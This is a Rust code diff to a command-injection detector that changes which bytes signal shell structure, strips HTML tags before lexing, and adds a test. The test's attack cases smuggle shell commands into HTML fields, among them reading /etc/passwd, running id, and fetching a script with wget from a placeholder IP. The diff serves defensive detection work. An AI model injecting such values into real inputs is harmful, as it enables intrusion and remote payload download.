@@ -44,7 +44,9 @@ const MAX_GLOBS: u32 = 4;
 /// Bytes without which no shell structure exists (`<(` and `>(` contain `(`).
 const SHELL_BYTES: [bool; 256] = {
     let mut t = [false; 256];
-    let bytes = b";|&`$\n\r()";
+    // `(` but not `)`: a subshell or substitution opens with one, while a lone `)` is the
+    // smiley or the closing half of an aside in prose ("Enjoy :)", "3 pack)").
+    let bytes = b";|&`$\n\r(";
     let mut i = 0;
     while i < bytes.len() {
         t[bytes[i] as usize] = true;
@@ -151,8 +153,15 @@ impl CmdiDetector {
             });
         }
         let mut best = shapes::special(text);
-        if text.bytes().any(|b| SHELL_BYTES[b as usize]) || self.first_word_known(text) {
-            self.lex_views(text, &mut best);
+        // Rich text's bare tags are markup, not redirections (see `bare_tags_blanked`).
+        let untagged = if text.contains("</") || text.contains("/>") {
+            markup::bare_tags_blanked(text)
+        } else {
+            None
+        };
+        let shell = untagged.as_deref().unwrap_or(text);
+        if shell.bytes().any(|b| SHELL_BYTES[b as usize]) || self.first_word_known(shell) {
+            self.lex_views(shell, &mut best);
         }
         // Payload lists often carry a newline as the two characters `\n`, at the start of the
         // value (after a closing quote or separator) or at its end.
@@ -3123,6 +3132,25 @@ mod tests {
                 "PATH scan found no sh; PATH={:?}",
                 std::env::var("PATH")
             );
+        }
+    }
+
+    #[test]
+    fn bare_tags_of_rich_text_are_not_redirections() {
+        for t in [
+            "<p>copy & paste</p>",
+            "<p title=\"Tom & Jerry\">copy & paste</p>",
+            "<li>cut & paste</li><li>rock & roll</li>",
+            "<p>Tom &amp; Jerry</p><br/>",
+        ] {
+            tool_benign(t);
+        }
+        for t in [
+            "<p>; cat /etc/passwd</p>",
+            "<b>x</b>|id",
+            "<p>a</p>; wget http://203.0.113.9/x.sh",
+        ] {
+            tool_attack(t);
         }
     }
 
